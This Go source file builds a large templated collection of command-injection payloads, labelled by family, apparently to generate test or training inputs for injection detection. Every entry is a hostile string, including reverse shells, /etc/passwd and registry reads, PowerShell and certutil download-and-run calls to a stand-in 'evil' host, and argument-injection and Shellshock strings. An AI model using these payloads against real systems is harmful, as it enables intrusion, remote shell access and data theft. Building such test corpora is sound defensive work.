package south

func attackShell() []family {
	cmdi := func(name string, say ...string) family {
		return family{name: "cmdi/" + name, class: "cmdi", at: commandSpots(), say: say}
	}
	return []family{
		cmdi("chained", "‹ip›‹sep›‹unixcmd›", "‹h›‹sep›‹unixcmd› #", "‹domain›‹sep›‹unixcmd›‹sep›", "‹h›;‹unixcmd›;echo ‹num›", "‹slug›.png && ‹unixcmd›"),
		cmdi("piped", "‹ip› ‹pipe› ‹unixcmd›", "‹h›‹pipe›‹unixcmd›", "‹slug›.txt‹pipe›‹pipe›‹unixcmd›", "‹ip›‹pipe›‹unixcmd›‹pipe›grep ‹letters›", "‹h› ‹pipe›& ‹unixcmd›"),
		cmdi("substitution", "‹h›$(‹unixcmd›)", "‹h›‹tick›‹unixcmd›‹tick›", "$(‹unixcmd› > /tmp/‹letters›)", "‹domain›.$(whoami).‹evil›", "<(‹unixcmd›)", "‹slug›-$(‹unixcmd›).‹ext›", "\"$(‹unixcmd›)\""),
		cmdi("quote-break", "‹h›\";‹unixcmd›;\"", "‹h›';‹unixcmd›;'", "‹h›' ‹pipe› ‹unixcmd› #", "‹h›\" && ‹unixcmd› && echo \"", "‹name›'‹tick›‹unixcmd›‹tick›'", "\\';‹unixcmd›\\'"),
		cmdi("ifs-and-braces", "‹ip›;cat${IFS}/etc/passwd", ";{cat,/etc/passwd}", "‹h›;ls${IFS}-la$IFS/", "‹ip›&&cat$IFS$9/etc/hosts", "‹h›‹pipe›{curl,‹evil›/‹letters›}", ";X=$'cat\\x20/etc/passwd'&&$X", "‹ip›;cat</etc/passwd"),
		cmdi("broken-words", "‹ip›;c'a't /e't'c/pa\"ss\"wd", "‹h›;w\\ho\\am\\i", "‹h›;/b?n/c?t /e?c/p?sswd", "‹h›&&who$@ami", "‹h›;/???/??t /???/p??s??", "‹h›‹pipe›ca$(echo t) /etc/passwd", "‹h›;a=wh;b=oami;$a$b", "‹ip›;rev<<<'‹imaohw|di›'‹pipe›sh", "‹h›;echo ‹b64›‹pipe›base64 -d‹pipe›bash"),
		cmdi("reverse-shell", "‹h›;bash -i >& /dev/tcp/‹ip›/‹4000..9999› 0>&1", "‹ip›;nc -e /bin/sh ‹ip› ‹4000..9999›", "‹h›‹pipe›python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"‹ip›\",‹4000..9999›));pty.spawn(\"sh\")'", "‹h›&&perl -e 'use Socket;exec(\"/bin/sh -i\")'", "‹h›;mkfifo /tmp/‹letters›;nc ‹ip› ‹4000..9999› </tmp/‹letters›‹pipe›sh", "‹h›;php -r '$s=fsockopen(\"‹ip›\",‹4000..9999›);exec(\"sh <&3 >&3\");'", "‹h›;socat tcp:‹ip›:‹4000..9999› exec:sh,pty"),
		cmdi("windows", "‹ip› & dir C:\\", "‹h›‹pipe›type %SystemRoot%\\win.ini", "‹ip› && net user ‹user› ‹letters›1! /add", "‹h› & whoami /priv", "‹h›&ping -n ‹5..20› 127.0.0.1", "‹slug›.pdf & certutil -urlcache -split -f http://‹evil›/‹letters›.exe %TEMP%\\a.exe", "‹h›‹pipe›‹pipe› cmd.exe /c calc.exe", "‹h›^&n^e^t u^s^e^r", "& reg query HKLM\\SAM", "‹h› & wmic process list", "‹h›&for /f %i in ('whoami') do nslookup %i.‹evil›"),
		cmdi("powershell", "‹h›; powershell -nop -w hidden -enc ‹b64›", "‹h›‹pipe›powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://‹evil›/a.ps1')\"", "‹h›;iwr http://‹evil›/a -OutFile $env:temp\\a.exe; Start-Process $env:temp\\a.exe", "‹h› & pwsh -Command Get-ChildItem Env:", "‹h›;$(Invoke-Expression (iwr ‹evil›))", "‹h›;Get-Content C:\\inetpub\\wwwroot\\web.config", "‹h›`n;Invoke-WebRequest -Uri http://‹evil›"),
		cmdi("argument-injection", "--upload-pack=‹unixcmd›", "-oProxyCommand=‹unixcmd›", "‹slug› --output=/var/www/‹letters›.php", "ext::sh -c ‹unixcmd›", "-e ‹unixcmd›", "--config=core.pager=‹unixcmd›", "‹slug›.tar --checkpoint=1 --checkpoint-action=exec=‹unixcmd›", "-X/tmp/‹letters› -be ${run{‹unixcmd›}}", "--use-compress-program=‹unixcmd›", "-I‹unixcmd›"),
		cmdi("shellshock", "() { :; }; ‹unixcmd›", "() { :;}; /bin/bash -c \"‹unixcmd›\"", "() { _; } >_[$($())] { ‹unixcmd›; }", "‹browser› () { ignored; }; echo; /usr/bin/id", "(){:;}; echo vulnerable; ‹unixcmd›"),
		cmdi("newline", "‹ip›\n‹unixcmd›", "‹h›\r\n‹unixcmd›\r\n", "‹domain›\n/bin/sh -c '‹unixcmd›'", "‹h›%0a‹unixcmd›", "‹slug›\n\n‹unixcmd› > /dev/null"),
		cmdi("in-code", "__import__('os').system('‹unixcmd›')", "‹h›'+require('child_process').execSync('‹unixcmd›')+'", "<?php system('‹unixcmd›'); ?>", "‹h›\");Runtime.getRuntime().exec(\"‹unixcmd›\");//", "eval(compile('import os;os.popen(\"‹unixcmd›\")','x','exec'))", "‹h›;exec(\"‹unixcmd›\");#", "#{%x(‹unixcmd›)}", "process.mainModule.require('child_process').exec('‹unixcmd›')", "${@print(system('‹unixcmd›'))}", "assert(base64_decode('‹b64›'))"),
		cmdi("in-prose", "‹sentence› ; ‹unixcmd›", "‹name› ‹pipe› ‹unixcmd›", "‹sentence› $(‹unixcmd›)", "‹text› ‹tick›‹unixcmd›‹tick›", "‹fewwords› && ‹unixcmd›"),
	}
}
